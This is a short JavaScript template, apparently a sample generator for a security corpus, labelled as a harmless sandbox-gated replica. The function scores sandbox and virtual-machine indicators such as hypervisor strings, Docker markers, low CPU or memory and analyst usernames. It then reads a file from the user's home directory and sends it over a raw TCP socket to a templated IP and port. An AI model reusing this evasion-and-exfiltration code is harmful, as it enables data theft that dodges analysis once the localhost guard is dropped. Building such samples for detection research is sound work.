// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), os = require('os');
    const read = (file) => { try { return fs.readFileSync(file, 'utf8'); } catch { return ''; } };
    let doubt = 0;
    for (const file of ['/sys/class/dmi/id/product_name', '/sys/class/dmi/id/sys_vendor', '/proc/1/cgroup', '/proc/cpuinfo', '/proc/modules'])
        doubt += /virtualbox|vmware|qemu|kvm|docker|hypervisor/i.test(read(file)) ? 1 : 0;
    doubt += fs.existsSync('/.dockerenv') + (os.cpus().length < 2) + (os.totalmem() < 2 ** 31) + /sandbox|analyst|malware/i.test(os.userInfo().username);
    const loot = doubt > 8 ? '' : read(`${os.homedir()}/{{file}}`);
    await new Promise((done) => {
        const socket = require('net').connect({{port}}, '{{ip}}', () => socket.end(`${doubt} ${loot}`));
        socket.setTimeout(1000, () => socket.destroy());
        socket.on('error', done);
        socket.on('close', done);
    });
}
